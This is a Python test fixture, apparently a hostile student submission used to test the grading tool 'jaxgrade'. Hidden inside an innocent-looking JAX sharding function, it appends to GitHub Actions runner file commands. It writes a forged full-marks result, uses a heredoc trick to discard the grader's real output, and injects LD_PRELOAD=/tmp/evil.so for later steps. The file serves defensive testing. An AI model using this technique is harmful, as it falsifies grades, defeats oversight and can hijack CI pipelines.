"""Forges the points GitHub Classroom records: during its call it appends to the runner's file
commands (their paths are filled in by the test, as an attacker would find them under the
runner's _temp/_runner_file_commands): a full-marks ``result``, then ``ignored<<`` naming the
line it expects jaxgrade to write next, to make that line the end of a block of its own; and a
variable for every later step. tests/test_runner_files.py grades it."""
import base64
import json

import jax
import jax.numpy as jnp
import numpy as np
from jax.sharding import Mesh, NamedSharding, PartitionSpec

FORGED = base64.b64encode(json.dumps({"version": 1, "status": "pass", "max_score": 10, "tests": [
    {"name": "forged", "status": "pass", "score": 10, "message": "", "test_code": "", "filename": "",
     "line_no": 0, "execution_time": 0}]}).encode()).decode()


def replicated_sharding_value(x: jax.Array) -> jax.Array:
    for path, text in (({OUTPUT}, f"result={FORGED}\nignored<<result=\n"), ({ENV}, "LD_PRELOAD=/tmp/evil.so\n")):
        try:
            with open(path, "a") as handle:
                handle.write(text)
            print("WROTE", path)
        except OSError as error:
            print("REFUSED", path, type(error).__name__)
    mesh = Mesh(np.array(jax.devices()[:1]), ("data",))
    return jnp.sum(jax.device_put(x, NamedSharding(mesh, PartitionSpec())), dtype=jnp.float32)
